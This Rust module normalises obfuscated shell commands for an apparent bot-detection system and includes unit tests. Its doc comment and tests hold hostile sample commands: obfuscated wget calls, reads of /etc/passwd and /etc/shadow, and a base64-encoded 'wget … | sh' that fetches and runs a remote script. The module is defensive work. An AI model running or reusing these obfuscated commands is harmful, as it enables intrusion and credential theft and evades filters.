//! Undoes the shell obfuscation bots use, so rules match what the shell would run.
//!
//! `w'g'et`, `w\get`, `wget${IFS}http://…`, `echo -e '\x77\x67\x65\x74'` and
//! `echo d2dldCBodHRw… | base64 -d | sh` all run `wget`. [`normalize`] turns a command line
//! into lower-case text with quotes and backslashes removed, `\xHH` escapes and `$IFS`
//! decoded and whitespace collapsed; when the line pipes base64 into a decoder, the decoded
//! payload (one level, normalised the same way) follows on a new line. Rules then match plain
//! words. The work is bounded: only the first [`MAX_LINE`] bytes of a line and at most
//! [`MAX_PAYLOADS`] payloads are looked at.

use base64::Engine as _;

/// Bytes of a line that are normalised; the rest is ignored.
pub const MAX_LINE: usize = 16 * 1024;
/// Base64 payloads decoded per line.
pub const MAX_PAYLOADS: usize = 4;
/// Shortest run taken for a base64 payload.
const MIN_B64: usize = 12;

/// A normalised command line.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Normalized {
    /// The normalised line, then each decoded payload on its own line.
    pub text: String,
    /// Whether a base64 payload was decoded into `text`.
    pub decoded: bool,
}

/// Normalises `line` (see the module doc).
pub fn normalize(line: &str) -> Normalized {
    let line = cap(line, MAX_LINE);
    let mut text = flatten(line);
    let mut decoded = false;
    if text.contains("base64") {
        for payload in base64_payloads(line).into_iter().take(MAX_PAYLOADS) {
            text.push('\n');
            text.push_str(&flatten(cap(&payload, MAX_LINE)));
            decoded = true;
        }
    }
    Normalized { text, decoded }
}

/// The longest prefix of `s` of at most `max` bytes that ends on a character boundary.
pub fn cap(s: &str, max: usize) -> &str {
    if s.len() <= max {
        return s;
    }
    let mut end = max;
    while end > 0 && !s.is_char_boundary(end) {
        end -= 1;
    }
    s.get(..end).unwrap_or("")
}

/// Lower-cases, drops quotes and escaping backslashes, decodes `\xHH` and `$IFS`, and
/// collapses whitespace into single spaces (newlines stay, as command separators).
fn flatten(line: &str) -> String {
    let bytes = line.as_bytes();
    let mut out = String::with_capacity(line.len());
    let mut i = 0;
    let mut space = true;
    while let Some(&b) = bytes.get(i) {
        let (ch, used) = match b {
            b'\'' | b'"' => (None, 1),
            b'\\' => match escape(bytes.get(i + 1..).unwrap_or(&[])) {
                Some((c, n)) => (Some(c), n + 1),
                None => (None, 1),
            },
            b'$' => match ifs(bytes.get(i..).unwrap_or(&[])) {
                Some(n) => (Some(' '), n),
                None => (Some('$'), 1),
            },
            _ => {
                // A whole UTF-8 character.
                let rest = line.get(i..).unwrap_or("");
                match rest.chars().next() {
                    Some(c) => (Some(c), c.len_utf8()),
                    None => (None, 1),
                }
            }
        };
        i += used;
        let Some(c) = ch else { continue };
        if c == '\n' || c == '\r' {
            trim_end_space(&mut out);
            out.push('\n');
            space = true;
        } else if c.is_whitespace() {
            if !space {
                out.push(' ');
                space = true;
            }
        } else {
            for l in c.to_lowercase() {
                out.push(l);
            }
            space = false;
        }
    }
    trim_end_space(&mut out);
    out
}

fn trim_end_space(s: &mut String) {
    while s.ends_with(' ') {
        s.pop();
    }
}

/// What a backslash followed by `rest` stands for, and how many bytes of `rest` it used.
fn escape(rest: &[u8]) -> Option<(char, usize)> {
    match rest {
        [b'x', h, l, ..] if h.is_ascii_hexdigit() && l.is_ascii_hexdigit() => {
            let v = hexval(*h) * 16 + hexval(*l);
            Some((char::from(v), 3))
        }
        [b'x', h, ..] if h.is_ascii_hexdigit() => Some((char::from(hexval(*h)), 2)),
        [b'n', ..] => Some(('\n', 1)),
        [b't', ..] => Some(('\t', 1)),
        [c, ..] if c.is_ascii() => Some((char::from(*c), 1)),
        _ => None,
    }
}

fn hexval(b: u8) -> u8 {
    match b {
        b'0'..=b'9' => b - b'0',
        b'a'..=b'f' => b - b'a' + 10,
        b'A'..=b'F' => b - b'A' + 10,
        _ => 0,
    }
}

/// Bytes used by an `$IFS` spelling at the start of `s` (`$IFS`, `${IFS}`, `${IFS%??}`).
fn ifs(s: &[u8]) -> Option<usize> {
    if s.starts_with(b"${IFS") {
        let close = s.iter().take(16).position(|&b| b == b'}')?;
        return Some(close + 1);
    }
    if s.starts_with(b"$IFS") {
        let next = s.get(4).copied();
        if next.is_none_or(|b| !(b.is_ascii_alphanumeric() || b == b'_')) {
            return Some(4);
        }
    }
    None
}

/// Base64 runs in a line that pipes them into a decoder, decoded (printable text only).
fn base64_payloads(line: &str) -> Vec<String> {
    let mut out = Vec::new();
    for word in line.split(|c: char| c.is_whitespace() || matches!(c, '\'' | '"' | '|' | ';')) {
        if out.len() >= MAX_PAYLOADS {
            break;
        }
        if word.len() < MIN_B64
            || !word
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='))
        {
            continue;
        }
        let trimmed = word.trim_end_matches('=');
        let engine = base64::engine::general_purpose::STANDARD_NO_PAD;
        let Ok(bytes) = engine.decode(trimmed) else {
            continue;
        };
        let Ok(text) = String::from_utf8(bytes) else {
            continue;
        };
        let printable = text
            .chars()
            .filter(|c| !c.is_control() || c.is_whitespace())
            .count();
        if printable * 10 >= text.chars().count() * 9 {
            out.push(text);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quotes_and_backslashes_go() {
        assert_eq!(normalize("w'g'et http://x").text, "wget http://x");
        assert_eq!(normalize("w\\get \"http://x\"").text, "wget http://x");
        assert_eq!(normalize("WGET  -q\tX").text, "wget -q x");
    }

    #[test]
    fn hex_escapes_and_ifs_decode() {
        assert_eq!(
            normalize(r"echo -e '\x77\x67\x65\x74'").text,
            "echo -e wget"
        );
        assert_eq!(normalize("cat${IFS}/etc/passwd").text, "cat /etc/passwd");
        assert_eq!(normalize("cat$IFS/etc/shadow").text, "cat /etc/shadow");
        assert_eq!(normalize("echo $IFSX").text, "echo $ifsx");
        assert_eq!(normalize("a${IFS%??}b").text, "a b");
    }

    #[test]
    fn base64_into_a_decoder_is_decoded_once() {
        // "wget http://203.0.113.5/x.sh -O- | sh"
        let n =
            normalize("echo d2dldCBodHRwOi8vMjAzLjAuMTEzLjUveC5zaCAtTy0gfCBzaA== | base64 -d | sh");
        assert!(n.decoded);
        assert!(
            n.text.ends_with("\nwget http://203.0.113.5/x.sh -o- | sh"),
            "{}",
            n.text
        );
        // Not piped into a decoder: left alone.
        let n = normalize("echo d2dldCBodHRwOi8vMjAzLjAuMTEzLjUveC5zaA==");
        assert!(!n.decoded);
        // Binary payloads are not text.
        let n = normalize("echo AAECAwQFBgcICQoLDA0ODw== | base64 -d > x");
        assert!(!n.decoded);
    }

    #[test]
    fn bounded_and_never_panics_on_odd_input() {
        let long = "é".repeat(MAX_LINE);
        assert!(normalize(&long).text.len() <= MAX_LINE);
        for s in [
            "\\",
            "\\x",
            "\\xZ",
            "${IFS",
            "$",
            "'",
            "\u{0}\\\u{1F600}",
            "\r\n\r\n",
        ] {
            let _ = normalize(s);
        }
        assert_eq!(normalize("a;\nb").text, "a;\nb");
    }
}
